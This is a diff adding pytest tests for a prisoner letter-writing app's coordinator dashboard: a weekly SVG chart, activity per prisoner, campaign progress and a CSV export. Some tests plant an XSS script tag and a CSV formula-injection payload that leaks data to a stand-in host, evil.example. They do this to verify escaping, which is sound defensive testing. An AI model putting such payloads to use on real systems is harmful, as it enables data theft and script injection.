@@ -1,0 +1,441 @@
+"""The coordinators' dashboard (letters per week, per prisoner, per campaign, replies and
+returns), its SVG chart, and the letter log as CSV."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import xml.etree.ElementTree as ET
+from collections.abc import Iterator
+from contextlib import contextmanager
+from datetime import date, timedelta
+from typing import Any
+
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient
+from sqlalchemy import event, select
+
+from letters.extensions import db
+from letters.models import (
+    Campaign,
+    CampaignKind,
+    LetterSent,
+    Prisoner,
+    ReturnReason,
+    SentVia,
+    Status,
+    User,
+)
+from letters.tracking import chart, dashboard, mail
+from tests.conftest import inline_scripts, make_facility, make_prisoner
+
+# A Wednesday; its week starts on Monday 3 November.
+TODAY = date(2025, 11, 5)
+THIS_MONDAY = date(2025, 11, 3)
+# 26 weeks ending with this one start 25 weeks before this Monday.
+FIRST_MONDAY = date(2025, 5, 12)
+SVG = "{http://www.w3.org/2000/svg}"
+
+
+def person(name: str, **fields: Any) -> Prisoner:
+    return make_prisoner(
+        make_facility(), family_name=name, given_names="A", patronymic="", latin_name="", **fields
+    )
+
+
+def sent(
+    prisoner: Prisoner, on: date, letters: int = 1, campaign: Campaign | None = None
+) -> LetterSent:
+    row = LetterSent(
+        prisoner_id=prisoner.id,
+        sent_on=on,
+        letters=letters,
+        campaign_id=campaign.id if campaign else None,
+    )
+    db.session.add(row)
+    return row
+
+
+def campaign(name: str, **fields: Any) -> Campaign:
+    row = Campaign(name=name, **fields)
+    db.session.add(row)
+    db.session.flush()
+    return row
+
+
+@contextmanager
+def count_statements() -> Iterator[list[str]]:
+    statements: list[str] = []
+
+    def record(*args: Any) -> None:
+        statements.append(args[2])
+
+    event.listen(db.engine, "before_cursor_execute", record)
+    try:
+        yield statements
+    finally:
+        event.remove(db.engine, "before_cursor_execute", record)
+
+
+# --- letters per week -------------------------------------------------------------------------
+
+
+def test_weekly_letters_sums_letters_by_monday_week(ctx: None) -> None:
+    someone = person("Someone")
+    sent(someone, TODAY, letters=4)
+    sent(someone, TODAY)
+    sent(someone, THIS_MONDAY, letters=3)
+    sent(someone, THIS_MONDAY - timedelta(days=1), letters=2)  # Sunday: the week before
+    sent(someone, FIRST_MONDAY, letters=5)  # the oldest day the chart shows
+    sent(someone, FIRST_MONDAY - timedelta(days=1), letters=7)  # one day too old
+    sent(someone, TODAY - timedelta(weeks=40), letters=9)
+    db.session.flush()
+
+    weeks = dashboard.weekly_letters(TODAY)
+
+    assert len(weeks) == 26
+    assert [monday for monday, _ in weeks] == [FIRST_MONDAY + timedelta(weeks=n) for n in range(26)]
+    assert all(monday.weekday() == 0 for monday, _ in weeks)
+    assert weeks[-1] == (THIS_MONDAY, 4 + 1 + 3)
+    assert weeks[-2] == (THIS_MONDAY - timedelta(weeks=1), 2)
+    assert weeks[0] == (FIRST_MONDAY, 5)
+    assert sum(letters for _, letters in weeks) == 15
+
+
+def test_weekly_letters_are_zero_filled_without_letters(ctx: None) -> None:
+    weeks = dashboard.weekly_letters(TODAY, weeks=4)
+    assert weeks == [(THIS_MONDAY - timedelta(weeks=n), 0) for n in (3, 2, 1, 0)]
+
+
+# --- the chart --------------------------------------------------------------------------------
+
+
+def series(values: list[int]) -> list[tuple[date, int]]:
+    first = THIS_MONDAY - timedelta(weeks=len(values) - 1)
+    return [(first + timedelta(weeks=n), value) for n, value in enumerate(values)]
+
+
+def parse_svg(markup: str) -> ET.Element:
+    # The app's own output, not untrusted input: ElementTree's XML attack surface is moot.
+    return ET.fromstring(markup)  # noqa: S314
+
+
+def bars(svg: ET.Element) -> list[ET.Element]:
+    return svg.findall(f"{SVG}rect[@class='bar']")
+
+
+@pytest.mark.parametrize(
+    ("peak", "ticks"),
+    [
+        (0, [0]),
+        (1, [0, 1]),
+        (3, [0, 1, 2, 3]),
+        (7, [0, 2, 4, 6, 8]),
+        (12, [0, 5, 10, 15]),
+        (140, [0, 50, 100, 150]),
+        (2000, [0, 500, 1000, 1500, 2000]),
+    ],
+)
+def test_gridlines_fall_on_round_values(peak: int, ticks: list[int]) -> None:
+    assert chart.round_ticks(peak) == ticks
+
+
+def test_chart_draws_one_bar_per_week_in_proportion(ctx: None) -> None:
+    values = [(n * 7) % 13 for n in range(26)]
+    values[-1] = 12
+    svg = parse_svg(str(chart.weekly_chart(series(values))))
+
+    assert svg.get("role") == "img"
+    total = sum(values)
+    assert svg.get("aria-label") == f"Letters per week for 26 weeks: {total} in total"
+    assert svg.findtext(f"{SVG}title") == svg.get("aria-label")
+    drawn = bars(svg)
+    assert len(drawn) == 26
+    heights = [float(bar.get("height", "")) for bar in drawn]
+    per_letter = heights[values.index(max(values))] / max(values)
+    assert per_letter > 0
+    for value, height in zip(values, heights, strict=True):
+        assert height == pytest.approx(value * per_letter, abs=0.02)
+    # Bars stand on one baseline.
+    bottoms = {round(float(b.get("y", "")) + float(b.get("height", "")), 1) for b in drawn}
+    assert len(bottoms) == 1
+    assert drawn[-1].findtext(f"{SVG}title") == "week of Nov 3: 12 letters"
+    assert drawn[values.index(1)].findtext(f"{SVG}title").endswith(": 1 letter")
+    # Gridlines at round values, the top one at or above the highest week.
+    ticks = [text.text for text in svg.findall(f"{SVG}text[@class='tick']")]
+    assert ticks == ["0", "5", "10", "15"]
+
+
+def test_chart_names_the_month_under_the_week_it_starts_in(ctx: None) -> None:
+    svg = parse_svg(str(chart.weekly_chart(series([1] * 26))))
+    months = [text.text for text in svg.findall(f"{SVG}text[@class='month']")]
+    # 12 May 2025 to 3 November 2025: June's first Monday is the 2nd, ... November's the 3rd.
+    assert months == ["Jun", "Jul", "Aug", "Sep", "Oct", "Nov"]
+
+
+def test_chart_speaks_the_visitors_language(app: Flask) -> None:
+    with app.test_request_context(headers={"Accept-Language": "ru"}):
+        svg = parse_svg(str(chart.weekly_chart(series([2] * 26))))
+    months = [text.text for text in svg.findall(f"{SVG}text[@class='month']")]
+    assert months[-1] == "нояб."
+    assert "3 нояб." in (bars(svg)[-1].findtext(f"{SVG}title") or "")
+
+
+def test_chart_without_letters_is_a_valid_flat_chart(ctx: None) -> None:
+    markup = str(chart.weekly_chart(series([0] * 26)))
+    svg = parse_svg(markup)
+    assert [float(bar.get("height", "")) for bar in bars(svg)] == [0.0] * 26
+    assert "nan" not in markup.lower()
+    assert "inf" not in markup.lower()
+    assert svg.get("aria-label") == "Letters per week for 26 weeks: 0 in total"
+    assert [text.text for text in svg.findall(f"{SVG}text[@class='tick']")] == ["0"]
+
+
+def test_chart_has_no_style_attributes(ctx: None) -> None:
+    # The Content-Security-Policy (style-src 'self') would block them.
+    markup = str(chart.weekly_chart(series(list(range(26)))))
+    assert "style=" not in markup
+    assert "<script" not in markup
+
+
+# --- per prisoner -----------------------------------------------------------------------------
+
+
+def test_prisoners_longest_silence_first_never_written_before_all(ctx: None) -> None:
+    recent = person("Recent")
+    old = person("Old")
+    never = person("Never", is_listed=False)
+    released = person("Released", status=Status.RELEASED)
+    sent(recent, TODAY - timedelta(days=2), letters=2)
+    sent(recent, TODAY - timedelta(days=90), letters=5)  # outside the 60 recent days
+    sent(old, TODAY - timedelta(days=100))
+    mail.record_reply(old, TODAY - timedelta(days=10))
+    mail.record_reply(old, TODAY - timedelta(days=400))
+    mail.record_return(recent, TODAY - timedelta(days=1), ReturnReason.MOVED)
+    db.session.flush()
+
+    rows = dashboard.prisoner_activity(TODAY)
+
+    by_name = {row.name: row for row in rows}
+    # Released people go last however long it has been: nobody can write to them now.
+    assert [row.prisoner_id for row in rows] == [never.id, old.id, recent.id, released.id]
+    assert by_name["A Never"].days_since_last is None
+    assert by_name["A Never"].last_letter_on is None
+    assert by_name["A Never"].is_listed is False
+    assert by_name["A Never"].total_letters == 0
+    assert by_name["A Old"].days_since_last == 100
+    assert (by_name["A Old"].replies, by_name["A Old"].returns) == (2, 0)
+    assert by_name["A Recent"].days_since_last == 2
+    assert by_name["A Recent"].last_letter_on == TODAY - timedelta(days=2)
+    assert by_name["A Recent"].recent_letters == 2
+    assert by_name["A Recent"].total_letters == 7
+    assert (by_name["A Recent"].replies, by_name["A Recent"].returns) == (0, 1)
+    assert by_name["A Recent"].address_needs_checking is True
+    assert by_name["A Old"].address_needs_checking is False
+    assert by_name["A Released"].can_receive is False
+
+
+def test_prisoner_activity_costs_the_same_for_many_prisoners(ctx: None) -> None:
+    facility = make_facility()
+    for n in range(12):
+        someone = make_prisoner(facility, family_name=f"P{n}")
+        sent(someone, TODAY - timedelta(days=n))
+        mail.record_reply(someone, TODAY)
+    db.session.flush()
+    with count_statements() as statements:
+        rows = dashboard.prisoner_activity(TODAY)
+    assert len(rows) == 12
+    assert len(statements) == 1
+
+
+# --- per campaign -----------------------------------------------------------------------------
+
+
+def test_campaigns_count_their_letters_and_the_people_written_to(ctx: None) -> None:
+    one, two = person("One"), person("Two")
+    evening = campaign(
+        "Evening in May", kind=CampaignKind.EVENING, starts_on=date(2025, 5, 20), goal=10
+    )
+    week = campaign(
+        "Solidarity week",
+        kind=CampaignKind.CAMPAIGN,
+        starts_on=date(2025, 10, 1),
+        ends_on=date(2025, 10, 7),
+        goal=4,
+    )
+    campaign("Nobody came", starts_on=date(2025, 9, 1))
+    sent(one, date(2025, 5, 20), letters=3, campaign=evening)
+    sent(one, date(2025, 5, 20), letters=2, campaign=evening)
+    sent(two, date(2025, 5, 20), campaign=evening)
+    sent(two, date(2025, 10, 2), letters=6, campaign=week)
+    sent(two, date(2025, 10, 2), letters=50)  # counted to no campaign
+    db.session.flush()
+
+    rows = dashboard.campaign_progress()
+
+    assert [row.campaign.name for row in rows] == [
+        "Solidarity week",
+        "Nobody came",
+        "Evening in May",
+    ]
+    by_name = {row.campaign.name: row for row in rows}
+    assert by_name["Evening in May"].progress.letters == 6
+    assert by_name["Evening in May"].progress.people == 2
+    assert by_name["Evening in May"].progress.percent == 60
+    assert by_name["Evening in May"].goal_progress == 60
+    assert by_name["Solidarity week"].progress.letters == 6
+    assert by_name["Solidarity week"].progress.people == 1
+    # A goal beaten is news (150 %); the progress bar stops at full.
+    assert by_name["Solidarity week"].progress.percent == 150
+    assert by_name["Solidarity week"].goal_progress == 100
+    assert by_name["Nobody came"].progress.letters == 0
+    assert by_name["Nobody came"].progress.people == 0
+    assert by_name["Nobody came"].goal_progress is None
+
+
+# --- replies and returns ----------------------------------------------------------------------
+
+
+def test_mail_summary_counts_the_chart_weeks_and_lists_the_latest(ctx: None) -> None:
+    one, two = person("One"), person("Two")
+    mail.record_reply(one, TODAY)
+    mail.record_reply(two, FIRST_MONDAY)
+    mail.record_reply(two, FIRST_MONDAY - timedelta(days=1))  # before the chart's weeks
+    mail.record_return(one, TODAY - timedelta(days=3), ReturnReason.MOVED, "to IK-5")
+    mail.record_return(two, TODAY - timedelta(days=4), ReturnReason.REFUSED_BY_CENSOR)
+    mail.record_return(two, TODAY - timedelta(days=5), ReturnReason.REFUSED_BY_CENSOR)
+    db.session.flush()
+
+    summary = dashboard.mail_summary(TODAY, limit=4)
+
+    assert summary.since == FIRST_MONDAY
+    assert summary.replies == 2
+    assert summary.returns == 3
+    assert summary.returns_by_reason == {
+        ReturnReason.MOVED: 1,
+        ReturnReason.REFUSED_BY_CENSOR: 2,
+    }
+    assert [(e.name, e.happened_on) for e in summary.recent] == [
+        ("A One", TODAY),
+        ("A One", TODAY - timedelta(days=3)),
+        ("A Two", TODAY - timedelta(days=4)),
+        ("A Two", TODAY - timedelta(days=5)),
+    ]
+    assert summary.recent[1].return_reason == ReturnReason.MOVED
+    assert summary.recent[1].note == "to IK-5"
+
+
+# --- the pages --------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("path", ["/manage/dashboard", "/manage/letters.csv"])
+def test_dashboard_and_letter_log_need_a_coordinator(client: FlaskClient, path: str) -> None:
+    response = client.get(path)
+    assert response.status_code == 302
+    assert response.headers["Location"].startswith("/login")
+
+
+def test_dashboard_shows_the_chart_campaigns_prisoners_and_mail(
+    app: Flask, client: FlaskClient, auth: Any
+) -> None:
+    auth.create_and_login()
+    today = date.today()
+    with app.app_context():
+        forgotten = person("Forgotten")
+        written = person("<script>alert(1)</script>")
+        drive = campaign("Winter cards", goal=20)
+        sent(written, today, letters=3, campaign=drive)
+        mail.record_return(written, today, ReturnReason.MOVED)
+        db.session.commit()
+        forgotten_id, written_id, drive_id = forgotten.id, written.id, drive.id
+
+    response = client.get("/manage/dashboard")
+
+    assert response.status_code == 200
+    html = response.get_data(as_text=True)
+    found = re.search(r"<svg\b.*?</svg>", html, re.S)
+    assert found
+    svg = parse_svg(found.group(0))
+    assert len(bars(svg)) == 26
+    assert "Letters per week for 26 weeks: 3 in total" in html
+    assert f'href="/manage/campaigns/{drive_id}">Winter cards</a>' in html
+    assert "15% of 20" in html
+    assert f'href="/manage/prisoners/{forgotten_id}/edit"' in html
+    assert f'href="/manage/prisoners/{written_id}/edit"' in html
+    # Never written to comes before someone written to today.
+    assert html.index(f'id="prisoner-{forgotten_id}"') < html.index(f'id="prisoner-{written_id}"')
+    assert "never written to" in html
+    assert "letter came back" in html
+    assert 'href="/manage/letters.csv"' in html
+    # A name is text, never markup; and nothing the CSP would block.
+    assert "<script>alert(1)</script>" not in html
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert " style=" not in html
+    assert inline_scripts(html) == []
+
+
+def test_letter_log_exports_inert_cells_and_no_volunteer_identity(
+    app: Flask, client: FlaskClient, auth: Any
+) -> None:
+    email = auth.create_and_login()
+    with app.app_context():
+        user_id = db.session.scalar(select(User.id).where(User.email == email))
+        trap = make_prisoner(
+            make_facility(),
+            given_names='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+            patronymic="",
+            family_name="Trap",
+            latin_name="",
+        )
+        plain = person("Plain")
+        drive = campaign("+SUM(1,1)")
+        db.session.add(
+            LetterSent(
+                prisoner_id=trap.id,
+                sent_on=date(2025, 3, 2),
+                letters=2,
+                campaign_id=drive.id,
+                via=SentVia.COORDINATOR,
+                user_id=user_id,
+            )
+        )
+        db.session.add(LetterSent(prisoner_id=plain.id, sent_on=date(2025, 3, 1)))
+        db.session.commit()
+        trap_id, plain_id = trap.id, plain.id
+
+    response = client.get("/manage/letters.csv")
+
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    assert (
+        response.headers["Content-Disposition"]
+        == f'attachment; filename="letters-{date.today().isoformat()}.csv"'
+    )
+    assert response.headers["Cache-Control"] == "no-store"
+    body = response.get_data()
+    assert body.startswith(b"\xef\xbb\xbf")  # a byte-order mark, for Excel
+    text = body.decode("utf-8-sig")
+    assert email not in text
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0] == [
+        "sent_on",
+        "prisoner_id",
+        "prisoner_name",
+        "letters",
+        "via",
+        "campaign",
+        "recorded_at_utc",
+    ]
+    assert [row[:2] for row in rows[1:]] == [
+        ["2025-03-01", str(plain_id)],
+        ["2025-03-02", str(trap_id)],
+    ]
+    trap_row = rows[2]
+    assert trap_row[2] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click") Trap'
+    assert trap_row[3:6] == ["2", "coordinator", "'+SUM(1,1)"]
+    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", trap_row[6])
+    assert rows[1][2:6] == ["A Plain", "1", "web", ""]
+    # No cell anywhere starts a formula.
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
